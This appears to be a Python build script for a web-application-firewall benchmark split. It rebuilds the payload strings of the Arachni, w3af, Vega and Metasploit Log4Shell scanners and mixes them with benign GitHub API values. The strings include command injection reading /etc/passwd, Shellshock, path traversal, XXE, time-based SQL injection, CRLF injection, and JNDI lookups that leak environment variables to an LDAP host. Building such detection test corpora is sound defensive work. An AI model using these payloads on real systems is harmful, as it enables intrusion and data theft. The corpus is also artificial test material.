"""fresh18: a classic scanner run (wfuzz's injection list, Arachni, w3af, Vega, Metasploit's Log4Shell scanner and a
CRLF list) against recorded GitHub REST API traffic from PyGithub's replay data.

    python bench/waf/fresh18/build.py                       # writes corpus.jsonl (deterministic)
    python bench/waf/fresh18/build.py --extract PYGITHUB    # re-selects the values (the three json files)

``PYGITHUB`` is the unpacked ``PyGithub`` 2.10.0 PyPI sdist (``pygithub-2.10.0``).

Attack payloads. ``records.txt`` (``class|kind|value`` lines under ``@@ source`` lines naming repository, file, commit
and licence; each file's stored text was read through the code-search index): xmendez/wfuzz
``wordlist/Injections/All_attack.txt`` (GPL-2.0, strings only; every line that is an attack on its own, split by
class; wfuzz puts a line into the URL as written, so ``%xx`` is decoded once as the application receives it) and
cujanovic/CRLF-Injection-Payloads. Built here as the tools build them (no file is copied; GPL and source-available
tools give test strings only), the original value of the field being ``42``:

- Arachni/arachni ``components/checks/active/`` (Arachni Public Source License 1.0, strings only): code injection
  (PHP/Perl/Python/ASP echo of two fixed numbers, its three prefixes and bare), code and OS-command timing payloads
  (``__TIME__`` filled as ``audit_timeout`` fills it: 4000 for code, 3 for commands), OS command injection
  (``/bin/cat`` of the passwd files and ``type`` of boot.ini/win.ini after ``''``, ``&&``, ``|``, ``;`` and in
  backticks), path traversal and file inclusion (every 3rd / 2nd of its depth x target x ``file://`` list), the SQL
  error probe, MSSQL ``waitfor delay``, LDAP error probe, response splitting, XXE document and the script-context XSS
  taints (taint token fixed); ``Format::STRAIGHT`` payloads as the value, ``Format::APPEND`` ones after ``42``.
- andresriancho/w3af ``w3af/plugins/audit/`` (GPL-2.0, strings only): ``os_commanding`` echo and ping-delay commands
  with its six separators (as the value and appended), ``eval`` print and sleep payloads (random string fixed,
  delay 3), ``xxe`` documents, ``ldapi`` and ``shell_shock``.
- subgraph/Vega ``scripts/scanner/modules/injection/`` (strings only): blind command-injection timing, MySQL
  ``SLEEP(20)`` timing, local-file-include sequences, header injection and eval code injection; appended to ``42``
  where the module asks for it.
- rapid7/metasploit-framework ``auxiliary/scanner/http/log4shell_scanner`` (BSD-3-Clause): its JNDI lookups with
  ``${java:os}``/``${sys:java.vendor}`` resources, the ``ldap:${::-/}/`` path form and a ``LEAK_PARAMS`` lookup, for
  a fixed server 10.13.37.5:389 and fixed tokens.

Values already in an older split (``older_payloads``) or repeated are dropped and listed in ``sources.json``; records
left out on purpose are listed there with the reason (``@@ drop``). None of these scanners has server-side template,
SSRF, NoSQL or prototype-pollution payloads, so those classes are absent (Arachni's NoSQL probe ``';.")`` is
punctuation only and was left out).

Benign values: the recorded GitHub REST API exchanges in ``tests/ReplayData/*.txt`` of ``PyGithub`` 2.10.0 (PyPI
sdist, LGPL-3.0): the string fields of request and response JSON bodies by category (names, prose, URLs, codes;
unique, at most 4,000 characters, evenly spaced), the recorded request query strings as whole query strings, and the
recorded JSON request bodies as whole bodies. Placed in the eight locations with ``SplitCorpus`` as in fresh16, with
the long texts. Split name ``fresh18``.
"""

from __future__ import annotations

import glob
import json
import os
import sys
from pathlib import Path
from typing import Any
from urllib.parse import unquote

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent))  # bench/waf is not a package (bench/waf.py is the runner)

from split_corpus import (  # noqa: E402
    GITHUB_FIELDS,
    attack_meta,
    even,
    field_values,
    first_seen,
    load,
    read_records,
    write,
    write_values,
)

SPLIT = "fresh18"
CAP = 300
DOC_CAP = 120
ORIG = "42"
LDAP_HOST = "10.13.37.5:389"
PYGITHUB = "PyGithub 2.10.0"
GH_FIELDS = GITHUB_FIELDS
HOW_READ = (
    "each file's stored text through the code-search index (read_file), the commit named per source; the wfuzz and "
    "CRLF lists transcribed into records.txt as written, the scanners' payloads rebuilt by build.py from their code "
    "as the scanner builds them (see its docstring)"
)


# --- attacks: records.txt and the payloads built in code ----------------------------------------------------------


def _decode(kind: str, text: str) -> str:
    value = str(json.loads(text))
    return unquote(value) if kind == "U" else value


def _both(cls: str, values: list[str]) -> list[tuple[str, str]]:
    """Each value as the whole field (straight) and appended to the original value (append)."""
    return [(cls, v) for value in values for v in (value, ORIG + value)]


def _arachni() -> list[tuple[str, str]]:
    out: list[tuple[str, str]] = []
    r1, r2 = "287630581954", "4196403186331128"
    for code in (f"echo {r1}+{r2};", f"print {r1}+{r2};", f"print {r1}+{r2}", f"Response.Write({r1}+{r2})"):
        out += _both("cmdi", [";" + code, '";' + code + "#", "';" + code + "#", code])
    timing = ["sleep(4000/1000);", "import time;time.sleep(4000/1000);", "Thread.sleep(4000);", "Thread.Sleep(4000);"]
    out += [("cmdi", f"{sep} {code}") for code in timing for sep in (" ", " && ", ";")]
    for cmd in (
        "/bin/cat /etc/passwd",
        "/bin/cat /etc/security/passwd",
        "/bin/cat /etc/master.passwd",
        "type %SystemDrive%\\\\boot.ini",
        "type %SystemRoot%\\\\win.ini",
    ):
        out += _both("cmdi", [f"{sep} {cmd}" for sep in ("", "&&", "|", ";")] + [f"` {cmd}`"])
    for cmd in ("sleep 3", "ping -n 3 localhost"):
        out += [("cmdi", f"{sep} {cmd}") for sep in ("", "&", "&&", "|", ";")] + [("cmdi", f"`{cmd}`")]
    # path_traversal.rb: '/' then '../' for depths 0-6, plain and file://; Windows targets also padded with dots.
    targets = ["/proc/self/environ", "/etc/passwd"]
    for win in ("boot.ini", "windows/win.ini", "winnt/win.ini"):
        targets += [win, win + "." * 700]
    travs: list[str] = []
    for target in targets:
        trv = "/"
        for _ in range(7):
            trv += "../"
            travs += [trv + target, "file://" + trv + target]
    for trv in ("/../../", "../../"):
        travs += [trv + "WEB-INF/web.xml", "file://" + trv + "WEB-INF/web.xml"]
    out += [("traversal", v) for v in travs[::3]]
    # file_inclusion.rb
    incl = ["/proc/self/environ", "/etc/passwd"]
    for win in ("/boot.ini", "/windows/win.ini", "/winnt/win.ini"):
        incl += [win, "c:" + win, win + "." * 700, win.replace("/", "\\")]
    incl += ["/WEB-INF/web.xml", "\\WEB-INF\\web.xml"]
    out += [("traversal", v) for v in [x for p in incl for x in (p, "file://" + p)][::2]]
    out.append(("sqli", ORIG + "\"'`--"))
    for prefix in (";", "';", '";', ");", "');", '");', "));", "'));", '"));'):
        out.append(("sqli", ORIG + prefix + "waitfor delay '0:0:4'-- "))
    out.append(("ldapi", ORIG + "#^($!@$)(()))******"))
    out += _both("crlf", ["\r\nX-CRLF-Safe-5f3e2a1b9c7d: no"])
    for target in ("/proc/self/environ", "/etc/passwd", "%SYSTEMDRIVE%\\boot.ini", "%WINDIR%\\win.ini"):
        out.append(
            (
                "xxe",
                f'<!DOCTYPE xxe_entity [ <!ENTITY xxe_entity SYSTEM "{target}"> ]>\n'
                "<order><note>&xxe_entity;</note></order>",
            )
        )
    seed = "window.top._9b2e6f0d1c_taint_tracer.log_execution_flow_sink()"
    taints = ["javascript:" + seed]
    for quote in ("'", '"', ""):
        taints += [f"{quote};{seed}{quote}", f"{quote};{seed};{quote}"]
    for payload in (f"1;{seed}%q", f"1;\n{seed}%q"):
        taints += [payload.replace("%q", s) for s in ("", ";")]
    taints = [x for t in taints for x in (t, t + "//")] + [f"*/;\n{seed}/*"]
    out += _both("xss", taints)
    return out


def _w3af() -> list[tuple[str, str]]:
    out: list[tuple[str, str]] = []
    special = ["", "&&", "|", ";", "\n", "\r\n"]
    echo = [s + c for s in special for c in ("/bin/cat /etc/passwd", "type %SYSTEMROOT%\\win.ini")]
    echo += ["`/bin/cat /etc/passwd`", "run type %SYSTEMROOT%\\win.ini"]
    wait = [
        s + c for s in special for c in ("ping -n 3 localhost", "ping -c 3 localhost", "/usr/sbin/ping -s localhost 3")
    ]
    wait += ["`ping -n 3 localhost`", "`ping -c 3 localhost`", "run ping -n 3 localhost"]
    out += _both("cmdi", echo + wait)
    rnd = "qxjvw"
    out += [
        ("cmdi", v)
        for v in (
            f"echo str_repeat('{rnd}',5);",
            f"print '{rnd}'x5",
            f"print('{rnd}'*5)",
            f'Response.Write(new String("{rnd}",5))',
            "sleep(3);",
            "__import__('time').sleep(3)",
            "Thread.sleep(3000);",
            "Thread.Sleep(3000);",
            "var cd;var d=new Date();do{cd=new Date();}while(cd-d<3000)",
        )
    ]
    generic = [
        '<!DOCTYPE xxe_test [ <!ENTITY xxe_test SYSTEM "%s"> ]><x>&xxe_test;</x>',
        '<?xml version="1.0" encoding="ISO-8859-1"?><!DOCTYPE xxe_test [ <!ENTITY xxe_test SYSTEM "%s"> ]>'
        "<x>&xxe_test;</x>",
        '<?xml version="1.0" encoding="ISO-8859-1"?><!DOCTYPE xxe_test [<!ELEMENT foo ANY><!ENTITY xxe_test '
        'SYSTEM "%s">]><foo>&xxe_test;</foo>',
    ]
    for name in ("%SYSTEMDRIVE%\\boot.ini", "%WINDIR%\\win.ini", "/etc/passwd", "http://w3af.org/xxe.txt"):
        out += [("xxe", g % name) for g in generic]
    out.append(("xxe", '<!DOCTYPE xxe_test [ <!ENTITY xxe_test SYSTEM "file:///etc/passwd"> ]><x>&xxe_test;</x>'))
    for name in ("%SYSTEMDRIVE%\\boot.ini", "%WINDIR%\\win.ini"):
        out.append(("xxe", f'<!DOCTYPE xxe_test [ <!ENTITY xxe_test SYSTEM "file:///{name}"> ]><x>&xxe_test;</x>'))
    out.append(("ldapi", "^(#$!@#$)(()))******"))
    out.append(("cmdi", "() { test; }; ping -c 3 localhost"))
    return out


def _vega() -> list[tuple[str, str]]:
    out: list[tuple[str, str]] = []
    out += [("cmdi", m + "/bin/sleep 31 ;") for m in ("; ", '" ; ', "' ; ", "| ", '"| ', "'| ")]
    out += [("cmdi", m + "ping.exe -n 31 127.0.0.1") for m in ("", '" ')]
    appended = [
        '" AND SLEEP(20) -- ',
        "' AND SLEEP(20) -- ",
        '" OR (SELECT SLEEP(20)) -- ',
        "' OR (SELECT SLEEP(20)) -- ",
        " OR EXISTS(SELECT SLEEP(20)) -- ",
        "' OR EXISTS(SELECT SLEEP(20)) -- ",
        '" OR EXISTS(SELECT SLEEP(20)) -- ',
        " UNION SELECT SLEEP(20) -- ",
        "' UNION SELECT SLEEP(20) -- ",
        '" UNION SELECT SLEEP(20) -- ',
    ]
    out += [("sqli", v) for v in ("1 AND SLEEP(20) -- ", "1 OR (SELECT SLEEP(20)) -- ", "(1 AND (SELECT SLEEP(20)))")]
    out += [("sqli", ORIG + v) for v in appended]

    def seq(n: int, kind: str = "") -> str:
        return {"Windows": "..\\", "Evasion1": "....//", "Evasion2": "....\\\\"}.get(kind, "../") * n

    lfi = [
        "/" + seq(12) + "etc/passwd",
        "/" + seq(12) + "etc/passwd\0",
        "/etc/passwd",
        "/etc/passwd\0",
        "file:/etc/passwd",
        "file:/etc/passwd\0",
        seq(12, "Windows") + "etc\\passwd",
        "\\" + seq(12, "Windows") + "etc\\passwd",
        "file:" + seq(12, "Windows") + "etc\\passwd",
        "file:\\" + seq(12, "Windows") + "etc\\passwd",
        seq(12, "Evasion1") + "etc/passwd",
        "/" + seq(12, "Evasion1") + "etc/passwd",
        "//../" + seq(12, "Evasion1") + "etc/passwd",
        seq(12, "Evasion2") + "etc\\passwd",
        "\\" + seq(12, "Evasion2") + "etc\\passwd",
        "\\\\..\\" + seq(12, "Evasion2") + "etc\\passwd",
        "C:\\boot.ini",
        "C:/boot.ini",
        seq(12, "Windows") + "boot.ini",
        "file:/C:/boot.ini",
        "file:/C:\\boot.ini",
        "file:/boot.ini",
        "C:/windows/win.ini",
        "C:\\windows\\win.ini",
        "file:/C:/windows/win.ini",
        seq(12, "Windows") + "/windows/win.ini",
        seq(2) + "WEB-INF/web.xml",
        "/" + seq(2) + "WEB-INF/web.xml",
        seq(2, "Windows") + "WEB-INF\\web.xml",
        "\\" + seq(2, "Windows") + "WEB-INF\\web.xml",
        seq(2, "Windows") + "WEB-INF/web.xml",
        "WEB-INF/web.xml",
        "/WEB-INF/web.xml",
        "WEB-INF\\web.xml",
        "\\WEB-INF\\web.xml",
        seq(2, "Evasion1") + "WEB-INF/web.xml",
        "/" + seq(2, "Evasion1") + "WEB-INF/web.xml",
        "//.." + seq(2, "Evasion1") + "WEB-INF/web.xml",
    ]
    lfi += ["/" + seq(n) + "WEB-INF/web.xml" for n in (1, 3, 4, 5)]
    lfi += ["\\" + seq(n, "Windows") + "WEB-INF\\web.xml" for n in (1, 3, 4, 5)]
    out += [("traversal", v) for v in lfi]
    out += [("crlf", ORIG + "bogus\nVega-Inject:bogus"), ("crlf", ORIG + "bogus\rVega-Inject:bogus")]
    out.append(("cmdi", "phpinfo();"))
    out += [("cmdi", ORIG + v) for v in ("`true`", "`false`", "`uname`", '"`true`"', '"`false`"', '"`uname`"')]
    return out


def _log4shell() -> list[tuple[str, str]]:
    def jndi(resource: str) -> str:
        return "${jndi:ldap://" + LDAP_HOST + "/" + resource + "/${java:os}/${sys:java.vendor}_${sys:java.version}}"

    return [
        ("jndi", jndi("k3v9q2m7x1")),
        ("jndi", jndi("p0z8w4n6").replace("ldap://", "ldap:${::-/}/")),
        ("jndi", jndi("t5r1y7u3")),
        ("jndi", jndi("b6c2d9e4f1/${env:USER}^${env:PATH}")),
    ]


BUILT = [
    (
        "Arachni/arachni",
        "components/checks/active/code_injection.rb, code_injection_timing.rb, os_cmd_injection.rb, "
        "os_cmd_injection_timing.rb, path_traversal.rb, file_inclusion.rb, sql_injection.rb, "
        "sqli_blind_timing/mssql.txt, ldap_injection.rb, response_splitting.rb, xxe.rb, xss_script_context.rb "
        "(payloads built in code)",
        "0f34578f333d00901dfff700770b34f4f5afa7b9 (code/os/path checks); "
        "0d45ee4a3b749f7c86f978751658d27cfa65704f (file_inclusion); 3c3a95941a0b60b4d416ed539396e746d234a1b3 "
        "(sql_injection); 67a1debe37dc4b1b425b0735a68b3bb34b29a6d7 (mssql.txt); "
        "46f34e88cdb0367ccdeea01b94a7c9cf38d23743 "
        "(ldap_injection); 21fd7a226575b5c8912779fc78be727f9b77bb31 (xxe)",
        "Arachni Public Source License 1.0 "
        "(LICENSE.md; source-available, commercial restrictions); payload strings only, no code",
        _arachni,
    ),
    (
        "andresriancho/w3af",
        "w3af/plugins/audit/os_commanding.py, eval.py, xxe.py, ldapi.py, shell_shock.py (payloads built in code)",
        "0736850d81534468af8152efa8a026f57398d53b (os_commanding, ldapi); "
        "02dd2e22ead40b5bd2b26d2fe9b2b004b9e7b00f (eval); 503d266c8b2cb105c5cdbdc3f22765c438db59f1 (xxe); "
        "0995aa08b8394dd5c6bc21f7105da9fb71174ce0 (shell_shock)",
        "GPL-2.0 (file headers); payload strings only, no code",
        _w3af,
    ),
    (
        "subgraph/Vega",
        "scripts/scanner/modules/injection/command-injection.js, sql-timing-injection.js, "
        "local-file-include.js, header-inject.js, code-injection.js, shell-injection.js (payloads built in code)",
        "0ac9bb49e95f21b42cd61c13ddf978254112ff42 (command-injection); 0be4edebe309ca6ba568f7d9766bb832adb237d6 "
        "(sql-timing); bc44bcb7c4616d8337f8c5a6acc66d7f90aa62e9 (local-file-include); "
        "06669deacac664dc85bcb9655ae075fb1f16afdf (header-inject); 042dd98310467804d9e7eea4ad7561e51fdc3532 "
        "(code-injection); 24d02385706ad61977a0cd4816734adb1de1ddb5 (shell-injection)",
        "no licence file in the code-search index (the project states EPL-1.0); payload strings only, no code",
        _vega,
    ),
    (
        "rapid7/metasploit-framework",
        "modules/auxiliary/scanner/http/log4shell_scanner.rb with the Log4Shell and JndiInjection mixins' jndi_string",
        "04ac668e21273fafc34c92927ab17b8f118f99df",
        "BSD-3-Clause (Metasploit Framework LICENSE)",
        _log4shell,
    ),
]


def _records() -> tuple[list[dict[str, Any]], list[dict[str, str]]]:
    sources, dropped = read_records(HERE / "records.txt", _decode)
    for repo, files, commit, licence, make in BUILT:
        sources.append({"repository": repo, "files": files, "commit": commit, "licence": licence, "values": make()})
    dropped.append(
        {
            "repository": "Arachni/arachni",
            "left_out": 'no_sql_injection.rb "\';.\\")", sql_injection.rb ")"',
            "why": "punctuation only: no single request can tell it from text",
        }
    )
    dropped.append(
        {
            "repository": "subgraph/Vega",
            "left_out": "shell-injection.js \"'true'\", \"'false'\", "
            "\"'uname'\"; xml-injection.js; url-injection.js (vega.invalid URLs); xss-injection.js (its tag "
            "is built by Java code not in these files)",
            "why": "harmless words and markup, a public redirect host, or not rebuildable from the stored files",
        }
    )
    return sources, dropped


# --- benign: PyGithub replay data --------------------------------------------------------------------------------


def _keep(text: str) -> bool:
    return len(text) <= 4000 and "localhost" not in text


def _exchanges(path: str) -> list[list[str]]:
    """The recorded exchanges of one replay file: protocol, method, host, port, path, request headers, request body,
    status, response headers, response body (ten lines, then a blank line)."""
    lines = Path(path).read_text(encoding="utf-8").split("\n")
    out: list[list[str]] = []
    i = 0
    while i + 10 <= len(lines):
        if lines[i] in ("http", "https"):
            out.append(lines[i : i + 10])
            i += 10
        else:
            i += 1
    return out


def _json(text: str) -> Any:
    if not text or text == "None":
        return None
    try:
        return json.loads(text)
    except ValueError:
        return None


def _pygithub(root: Path) -> dict[str, list[dict[str, str]]]:
    files: list[tuple[str, Any]] = []
    queries: list[dict[str, str]] = []
    bodies: list[dict[str, str]] = []
    seen_q: set[str] = set()
    seen_b: set[str] = set()
    for path in sorted(glob.glob(str(root / "tests/ReplayData/*.txt"))):
        rel = os.path.relpath(path, root)
        for ex in _exchanges(path):
            request, response = _json(ex[6]), _json(ex[9])
            files += [(rel, doc) for doc in (request, response) if doc is not None]
            query = ex[4].partition("?")[2]
            if query and query not in seen_q and _keep(query):
                seen_q.add(query)
                queries.append({"value": query, "source": f"{PYGITHUB} {rel}: request path {ex[1]}"})
            if isinstance(request, dict) and ex[6] not in seen_b and _keep(ex[6]):
                seen_b.add(ex[6])
                bodies.append({"value": ex[6], "source": f"{PYGITHUB} {rel}: request body {ex[1]}"})
    values = field_values(files, GH_FIELDS, "gh", PYGITHUB, CAP, ("first_name", "last_name"), _keep)
    return {**values, "gh_queries": even(queries, DOC_CAP), "gh_bodies": even(bodies, DOC_CAP)}


def extract(pygithub: Path) -> None:
    sources, dropped = _records()
    attacks, repeats = first_seen(HERE, sources)
    benign = _pygithub(pygithub)
    write_values(
        HERE,
        SPLIT,
        attacks,
        benign,
        attack_meta(sources, HOW_READ, dropped, repeats, attacks),
        {
            "github": {
                "package": f"{PYGITHUB} (PyPI sdist), tests/ReplayData/*.txt: recorded GitHub REST API exchanges",
                "licence": "LGPL-3.0 (COPYING.LESSER of PyGithub; classifier 'GNU Library or Lesser General Public "
                "License'); recorded API data used as test values only",
            },
            "what": "unique text of the listed keys of request and response JSON bodies (first occurrence, at most "
            f"4,000 characters, no 'localhost'), at most {CAP} per category at an even stride; request query strings "
            f"and JSON request bodies whole, at most {DOC_CAP} each at an even stride",
            "fields": {"github": GH_FIELDS},
            "counts": {cat: len(v) for cat, v in benign.items()},
        },
    )


# --- corpus -------------------------------------------------------------------------------------------------------


def build() -> list[dict[str, Any]]:
    corpus, benign = load(HERE, SPLIT)
    queries = benign.pop("gh_queries", [])
    bodies = benign.pop("gh_bodies", [])
    corpus.benign_values(benign, lambda category: category.split("_", 1)[1])
    corpus.long_texts(benign)
    corpus.documents(queries, "gh_query", "query", target="/repos/octo/app/issues?")
    corpus.documents(bodies, "gh_body", "json")
    out: list[dict[str, Any]] = corpus.items
    return out


if __name__ == "__main__":
    args = sys.argv[1:]
    if args[:1] == ["--extract"]:
        extract(Path(os.path.expanduser(args[1])))
    write(HERE, build())
